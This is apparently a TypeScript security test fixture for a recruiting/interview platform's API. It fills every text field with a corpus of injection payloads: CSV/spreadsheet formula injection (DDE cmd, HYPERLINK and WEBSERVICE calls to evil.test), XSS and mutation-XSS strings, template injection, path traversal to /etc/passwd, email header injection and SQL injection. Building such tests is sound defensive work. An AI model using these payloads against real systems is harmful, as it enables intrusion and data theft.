@@ -1,0 +1,415 @@
+// An agency in which every text that anybody can write is an attack: on who opens a table (formulas), on who reads a page or a
+// letter (scripts, attributes, ends of scripts), on headers and paths. The texts are put where the contract has a place for
+// text, so that a new field is attacked as soon as its call is made here.
+import { randomBytes } from 'node:crypto';
+import * as core from 'zod/v4/core';
+import type * as z from 'zod/mini';
+import type { Endpoint } from '#contract/endpoint.ts';
+import { endpoints, type EndpointName } from '#contract/endpoints.ts';
+import { newId } from '#contract/id.ts';
+import type { JobDetail } from '#contract/job.ts';
+import type { Company } from '#contract/company.ts';
+import { call } from './harness.ts';
+import type { Callable, CallInput } from './harness.ts';
+import { answerTo, begin, bind, inParts, questionOf, sendTake, startBody } from './interviewing.ts';
+import type { Interviewee } from './interviewing.ts';
+import { companyDraft, jobDraft, questionDraft } from './people.ts';
+import type { Person } from './people.ts';
+
+/** All of it at once, for places with room; cut to what a place has. What it would do is `hostileRan`. */
+export const attack = `=1+1<img src=x onerror=hostileRan()>"'onmouseover=hostileRan()</script></title></textarea></style><script>hostileRan()</script><svg/onload=hostileRan()>javascript:hostileRan()`;
+
+/** What is known of such texts, one by one: as candidates' names and answers. */
+export const corpus = [
+  attack,
+  ...['=HYPERLINK("https://evil.test?"&A1,"x")', "+cmd|' /C calc'!A0", '-2+3+cmd|x!A0', '@SUM(1+1)*cmd|x!A0'],
+  ...[
+    '\t=1+1',
+    '\r=1+1',
+    '=1+1\n=2+2',
+    '";=1+1',
+    ',=1+1',
+    '\u00a0=1+1',
+    '＝1+1',
+    "'=1+1",
+    '=DDE("cmd";"/C calc";"x")',
+  ],
+  ...[
+    '=IMPORTXML("https://evil.test","//a")',
+    '=WEBSERVICE("https://evil.test")',
+    '%0A=1+1',
+    '\u202e=1+1\u202c',
+  ],
+  ...['<script>hostileRan()</script>', '<img src=x onerror=hostileRan()>', '<svg onload=hostileRan()>'],
+  ...['"><script>hostileRan()</script>', "'-hostileRan()-'", '</title><script>hostileRan()</script>'],
+  ...['javascript:hostileRan()', 'java\tscript:hostileRan()', 'data:text/html,<script>hostileRan()</script>'],
+  ...['<iframe srcdoc="<script>parent.hostileRan()</script>">', '<a href=javascript:hostileRan()>x</a>'],
+  ...[
+    '<math><mtext></form><form><mglyph><style></math><img src onerror=hostileRan()>',
+    '<!--><img src=x onerror=hostileRan()>-->',
+  ],
+  ...[
+    '<noscript><p title="</noscript><img src=x onerror=hostileRan()>">',
+    '<template><script>hostileRan()</script></template>',
+  ],
+  ...[
+    '\u2028hostileRan()//',
+    '\\u003cscript\\u003ehostileRan()\\u003c/script\\u003e',
+    '&lt;script&gt;hostileRan()&lt;/script&gt;',
+  ],
+  ...[
+    '{{constructor.constructor("hostileRan()")()}}',
+    '${hostileRan()}',
+    '<%= hostileRan() %>',
+    '#{hostileRan()}',
+  ],
+  ...[
+    '../../../../etc/passwd',
+    '..\\..\\windows\\win.ini',
+    'a/b:c*d?e"f<g>h|i',
+    'CON',
+    'x\r\nBcc: all@evil.test',
+  ],
+  ...['=?utf-8?b?PHNjcmlwdD4=?=', "'; drop table users; --", '%00', '\ufeff=1+1', '﷽﷽﷽', 'a'.repeat(200)],
+] as const;
+
+export interface HostileWorld {
+  company: Company;
+  job: JobDetail;
+  candidates: { who: Interviewee; id: string; name: string }[];
+  /** Of a link that shows them to somebody without an account. */
+  reviewHash: string;
+  /** Every text that was sent as an attack, by its place: `createJob questions.question`. */
+  attacked: ReadonlySet<string>;
+}
+
+/** `texts`: a candidate for each. */
+export async function makeHostileWorld(
+  test: Callable,
+  { token }: Pick<Person, 'token'>,
+  texts: readonly string[] = corpus,
+): Promise<HostileWorld> {
+  const attacked = new Set<string>();
+  const tell = async <Data extends z.ZodMiniType>(
+    name: EndpointName,
+    endpoint: Endpoint<z.ZodMiniType, z.ZodMiniType, z.ZodMiniType, Data>,
+    sent: CallInput,
+  ): Promise<z.output<Data>> => {
+    const note = (path: string) => attacked.add(`${name} ${path}`);
+    const body = endpoint.body && withAttacks(endpoint.body, sent.body, note);
+    const { data } = await call(test, endpoint, { token, ...sent, body });
+    return data;
+  };
+
+  const company = await tell('createCompany', endpoints.createCompany, {
+    body: { ...companyDraft(), agency_name: 'x' },
+  });
+  await tell('updateCompany', endpoints.updateCompany, {
+    params: { id: company.id },
+    body: { ...companyDraft({ id: company.id }), agency_name: 'x', updated_at: company.updated_at },
+  });
+  const draft = jobDraft(company.id, {
+    competences: [{ id: newId(), name: 'x', score: 50 }],
+    pipelines: [{ id: newId(), name: 'x' }],
+    ask_cv: true,
+    ask_additional_files: true,
+    self_accommodation: true,
+    expire_date: new Date(Date.now() + 86_400_000).toISOString(),
+    questions: [
+      questionDraft('video'),
+      questionDraft('text'),
+      questionDraft('code', {
+        tests: [{ id: newId(), text: '1', output: '1', hidden: false, correct: false }],
+      }),
+      questionDraft('choice'),
+    ],
+  });
+  const job = await tell('createJob', endpoints.createJob, { body: draft });
+  await tell('updateJob', endpoints.updateJob, {
+    params: { id: job.id },
+    body: { ...draft, updated_at: job.updated_at },
+  });
+  const params = { id: job.id };
+  await keepForLater();
+  const message = {
+    email_title: '{{job_name}}',
+    greeting: '{{candidate_name}} {{job_name}} {{company_name}}',
+  };
+  for (const kind of ['invitation', 'reminder', 'rejection', 'acceptance'] as const)
+    await tell('saveMessageTemplate', endpoints.saveMessageTemplate, {
+      params: { kind, language: 'en-US' },
+      body:
+        kind === 'invitation' || kind === 'reminder'
+          ? { ...message, sms_text: '{{interview_link}}' }
+          : message,
+    });
+  await tell('testMessage', endpoints.testMessage, {
+    params: { kind: 'invitation', language: 'en-US' },
+    body: { id: newId(), job_id: job.id, ...message, sms_text: '{{interview_link}}' },
+  });
+
+  const candidates: HostileWorld['candidates'] = [];
+  const all = [...texts.entries()];
+  for (let from = 0; from < all.length; from += 4)
+    candidates.push(...(await Promise.all(all.slice(from, from + 4).map(([n, text]) => interview(text, n)))));
+  const [first, second] = candidates;
+  if (!first || !second) throw new Error('nobody came');
+  await aboutOne(first.id, first.who);
+  await invitations();
+  const link = await tell('addReviewLink', endpoints.addReviewLink, {
+    body: {
+      id: newId(),
+      job_id: job.id,
+      response_ids: [first.id, second.id],
+      question_ids: null,
+      name: 'x',
+      message: 'x',
+      ...{ shows_contact: true, shows_files: true, may_rate: true, may_comment: true },
+      expires_at: null,
+      password: '',
+    },
+  });
+  await asGuest(link.hash);
+  await aboutUs();
+  return { company, job, candidates, reviewHash: link.hash, attacked };
+
+  async function aboutUs(): Promise<void> {
+    const user = await call(test, endpoints.getUser, { token }).then(({ data }) => data);
+    await tell('saveProfile', endpoints.saveProfile, {
+      body: {
+        ...{ name: 'x', phone: '', country: '', recruiting_owner: false, language: 'en-US', time_zone: '' },
+        updated_at: user.updated_at,
+      },
+    });
+    const hook = { url: 'https://hooks.example.com/x', description: 'x', events: ['candidate.rated'] };
+    const webhook = await tell('addWebhook', endpoints.addWebhook, { body: { id: newId(), ...hook } });
+    await tell('updateWebhook', endpoints.updateWebhook, {
+      params: { id: webhook.id },
+      body: { ...hook, active: false, updated_at: webhook.updated_at },
+    });
+    const seen = await call(test, endpoints.getCurrentPlan, { token }).then(({ data }) => data.billing_info);
+    await tell('saveBilling', endpoints.saveBilling, {
+      body: { ...seen, client_type: 'business', email: 'bills@example.test', country: 'US', seen },
+    });
+    await tell('askSupport', endpoints.askSupport, {
+      body: {
+        ...{ id: newId(), topic: 'question', text: 'x', job_id: job.id, language: 'en-US', picture: null },
+        facts: {
+          ...{ version: 'x', browser: 'x', screen: 'x', time_zone: 'x' },
+          faults: [{ code: 'x', status: 500, call: 'x', at: new Date().toISOString() }],
+        },
+      },
+    });
+  }
+
+  async function asGuest(hash: string): Promise<void> {
+    const guest = randomBytes(32).toString('base64url');
+    const opened = { session_token: guest, password: '', name: 'x' };
+    await tell('openReviewLink', endpoints.openReviewLink, { params: { hash }, body: opened });
+    const shared = await call(test, endpoints.getSharedCandidates, { token: guest }).then(({ data }) => data);
+    const answer = shared.candidates[0]?.answers[0]?.id ?? '';
+    const comment = { id: newId(), text: 'x', at_ms: null };
+    await tell('commentAsGuest', endpoints.commentAsGuest, {
+      token: guest,
+      params: { id: answer },
+      body: comment,
+    });
+  }
+
+  async function keepForLater(): Promise<void> {
+    const { data: config } = await call(test, endpoints.getConfig, { token });
+    const subject_id = config.subjects[0]?.id;
+    const kept = questionDraft('code', {
+      tests: [{ id: newId(), text: '1', output: '1', hidden: false, correct: false }],
+    });
+    await tell('addToBank', endpoints.addToBank, {
+      body: { ...kept, subject_id, role_id: null, language: 'en-US' },
+    });
+    await tell('addHiringTemplate', endpoints.addHiringTemplate, {
+      body: {
+        id: newId(),
+        name: 'x',
+        role_id: null,
+        questions: [{ ...kept, default_id: null }],
+        competences: [{ name: 'x', score: 10 }],
+      },
+    });
+    await tell('saveView', endpoints.saveView, {
+      params: { id: newId() },
+      body: { name: 'x', job_id: job.id, filters: { search: 'x', tag: 'x' }, layout: 'table', shared: true },
+    });
+    await tell('addShareLink', endpoints.addShareLink, { params, body: { id: newId(), source: 'x' } });
+    await tell('addQuickNote', endpoints.addQuickNote, { body: { id: newId(), text: 'x' } });
+  }
+
+  /** With this text as whatever a candidate writes. */
+  async function interview(text: string, n: number) {
+    const email = `c${n}@example.test`;
+    const who = await begin(test, job, {
+      name: text.trim() || 'x',
+      email,
+      device: { user_agent: text, time_zone: text.slice(0, 100) },
+    });
+    const asOne = { token: who.token };
+    const written: unknown = answerTo(questionOf(who, 'text'), { text });
+    await call(test, endpoints.submitAnswer, { ...asOne, body: written }).then(({ data }) => data);
+    const program = answerTo(questionOf(who, 'code'), { language: 'python', code: text });
+    await call(test, endpoints.submitAnswer, { ...asOne, body: program }).then(({ data }) => data);
+    const take = await bind(test, who, {
+      purpose: 'cv',
+      question_id: null,
+      mime_type: 'text/plain',
+      name: `${text.slice(0, 150)}.txt`,
+    });
+    await sendTake(test, who, take, [
+      inParts(Buffer.from(`${attack} ${text.replaceAll(/[^\x20-\x7e]/g, '')}`)),
+    ]);
+    const finished = { id: newId(), finished_at: new Date().toISOString() };
+    await call(test, endpoints.finishInterview, { ...asOne, body: finished }).then(({ data }) => data);
+    return { who, id: who.interview.response_id, name: text };
+  }
+
+  async function aboutOne(id: string, { token: own }: Interviewee): Promise<void> {
+    const of = { params: { id } };
+    const response = await call(test, endpoints.getResponse, { token, ...of }).then(({ data }) => data);
+    const answer = response.answers[0]?.id ?? '';
+    const note = { id: newId(), text: 'x' };
+    const { notes } = await tell('addNote', endpoints.addNote, { ...of, body: note });
+    await tell('editNote', endpoints.editNote, {
+      params: { id: note.id },
+      body: { text: 'x', updated_at: notes[0]?.updated_at },
+    });
+    const comment = { id: newId(), text: 'x', at_ms: null };
+    const { answers: commented } = await tell('addComment', endpoints.addComment, {
+      params: { id: answer },
+      body: comment,
+    });
+    const comments = commented.flatMap((one) => one.comments);
+    await tell('editComment', endpoints.editComment, {
+      params: { id: comment.id },
+      body: { text: 'x', updated_at: comments[0]?.updated_at },
+    });
+    await tell('setTags', endpoints.setTags, {
+      params,
+      body: { response_ids: [id], add: ['x'], remove: [] },
+    });
+    await tell('setLegalHold', endpoints.setLegalHold, { ...of, body: { on: true, reason: 'x' } });
+    await tell('setLegalHold', endpoints.setLegalHold, { ...of, body: { on: false, reason: 'x' } });
+    const request = { id: newId(), kind: 'question', text: 'x' };
+    await tell('makeRequest', endpoints.makeRequest, { token: own, body: request });
+    await tell('replyToRequest', endpoints.replyToRequest, {
+      params: { id, request: request.id },
+      body: { state: 'declined', reply: 'x' },
+    });
+    const decided = { id: newId(), items: [{ response_id: id, from: response.status, to: 'rejected' }] };
+    await call(test, endpoints.setStatuses, { token, params, body: decided }).then(({ data }) => data);
+    await tell('sendDecisionLetter', endpoints.sendDecisionLetter, {
+      params: { id, kind: 'rejection' },
+      body: { id: newId(), title: 'x', text: 'x' },
+    });
+  }
+
+  async function invitations(): Promise<void> {
+    await tell('inviteByEmail', endpoints.inviteByEmail, {
+      params,
+      body: { id: newId(), name: 'x', email: 'mail@example.test' },
+    });
+    await tell('startImport', endpoints.startImport, {
+      params,
+      body: {
+        id: newId(),
+        channel: 'email',
+        file_name: 'x',
+        language: 'en-US',
+        duplicates: 0,
+        rows: texts.map((name, row) => ({ name, email: `row${row}@example.test`, phone: '' })),
+      },
+    });
+    await tell('startShare', endpoints.startShare, {
+      params: { hash: job.hash_link },
+      body: startBody({ email: 'all@example.test' }),
+    });
+  }
+}
+
+/** What was there when a page was opened: compared with what is there now, and kept nowhere. */
+const compared = 'seen';
+
+/** Every text of a body replaced by the attack, cut to its length; what is no text, or a text of a form, stays. */
+export function withAttacks(
+  schema: core.$ZodType,
+  value: unknown,
+  note: (path: string) => void,
+  path = '',
+): unknown {
+  if (value === null || value === undefined || path === compared) return value;
+  if (schema instanceof core.$ZodObject) {
+    const fields = Object.entries(schema._zod.def.shape).map(([name, field]) => [
+      name,
+      withAttacks(field, Reflect.get(Object(value), name), note, below(path, name)),
+    ]);
+    return Object.fromEntries(fields.filter(([, content]) => content !== undefined));
+  }
+  if (schema instanceof core.$ZodArray)
+    return Array.isArray(value)
+      ? value.map((one) => withAttacks(schema._zod.def.element, one, note, path))
+      : value;
+  if (schema instanceof core.$ZodUnion) {
+    const own = schema._zod.def.options.find((option) => core.safeParse(option, value).success);
+    return own ? withAttacks(own, value, note, path) : value;
+  }
+  const inner = innerOf(schema);
+  if (inner) return withAttacks(inner, value, note, path);
+  const longest = lengthOf(schema);
+  if (longest === undefined) return value;
+  note(path);
+  const form = forms[path.split('.').at(-1) ?? ''];
+  if (form) return form(value);
+  // What a message is filled with stays in it.
+  const filled = typeof value === 'string' && value.includes('{{') ? ` ${value}` : '';
+  return attack.slice(0, longest - filled.length) + filled;
+}
+
+/** Texts whose form is checked beyond the schema: attacked within it, or as they are. */
+const forms: Record<string, (value: unknown) => unknown> = {
+  captions: () => `WEBVTT\n\n00:00.000 --> 00:09.000\n${attack}`,
+  video_link: (value) => value,
+  language_answer: (value) => value,
+  time_zone: (value) => value,
+};
+
+/** The paths of the texts that a body has a place for: `questions.tests.text`. */
+export function textsOf(schema: core.$ZodType, path = ''): string[] {
+  if (path === compared) return [];
+  if (schema instanceof core.$ZodObject)
+    return Object.entries(schema._zod.def.shape).flatMap(([name, field]) =>
+      textsOf(field, below(path, name)),
+    );
+  if (schema instanceof core.$ZodArray) return textsOf(schema._zod.def.element, path);
+  if (schema instanceof core.$ZodUnion)
+    return schema._zod.def.options.flatMap((option) => textsOf(option, path));
+  const inner = innerOf(schema);
+  if (inner) return textsOf(inner, path);
+  return lengthOf(schema) === undefined ? [] : [path];
+}
+
+function below(path: string, name: string): string {
+  return path ? `${path}.${name}` : name;
+}
+
+function innerOf(schema: core.$ZodType): core.$ZodType | undefined {
+  const isAround =
+    schema instanceof core.$ZodNullable ||
+    schema instanceof core.$ZodOptional ||
+    schema instanceof core.$ZodDefault;
+  return isAround ? schema._zod.def.innerType : undefined;
+}
+
+/** How long a text may be; undefined for what is no text, or has a form that it is checked by. */
+function lengthOf(schema: core.$ZodType): number | undefined {
+  if (!(schema instanceof core.$ZodString) || schema instanceof core.$ZodStringFormat) return undefined;
+  const checks = (schema._zod.def.checks ?? []).map(({ _zod }) => _zod.def);
+  if (checks.some(({ check }) => check === 'string_format')) return undefined;
+  const longest = checks.flatMap((check) => ('maximum' in check ? [Number(check.maximum)] : []));
+  return longest[0] ?? attack.length;
+}
